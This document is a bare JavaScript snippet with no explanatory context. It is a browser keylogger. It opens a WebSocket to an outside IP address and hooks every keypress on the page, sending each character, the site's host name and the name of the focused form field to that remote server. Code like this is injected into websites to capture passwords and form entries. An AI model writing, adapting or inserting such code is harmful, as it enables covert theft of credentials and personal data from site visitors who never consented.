var sock = new WebSocket("ws://203.0.113.7:8080/");
document.onkeypress = function (e) {
  e = e || window.event;
  var c = e.which || e.keyCode;
  if (sock.readyState === 1) sock.send(JSON.stringify({ u: location.host, c: String.fromCharCode(c), f: document.activeElement.name }));
};
